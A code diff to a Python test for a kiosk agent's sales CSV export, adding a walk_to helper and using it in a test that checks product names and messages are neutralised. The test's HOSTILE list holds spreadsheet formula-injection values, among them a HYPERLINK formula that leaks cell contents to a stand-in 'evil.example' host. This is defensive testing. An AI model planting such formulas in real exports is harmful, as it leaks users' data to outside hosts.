@@ -33,6 +33,7 @@ from kiosk_agent.service.client import ServiceClient
 from kiosk_agent.service.models.payments import ChargeRequest
 from kiosk_agent.sim.server import SimServer
 from tests.admin.conftest import ADMIN_TOKEN, write_config
+from tests.helpers import walk_to
 
 # What the attack review put in product names and order fields.
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1+1", "@SUM(1)",
@@ -158,8 +159,7 @@ def test_sales_csv_neutralises_product_names_and_messages(
             terminal="SIM-0001", amount_cents=1000 + n, product=product,
             state=SaleState.STARTED, created_at=1_790_000_000.0 + n,
         ))
-        journal.record(sale, "end", SaleState.COMPLETED, captured_cents=1000 + n,
-                       message=product)
+        walk_to(journal, sale, SaleState.COMPLETED, captured_cents=1000 + n, message=product)
     journal.close()
     assert main(["sales", "-c", str(config), "--format", "csv"]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
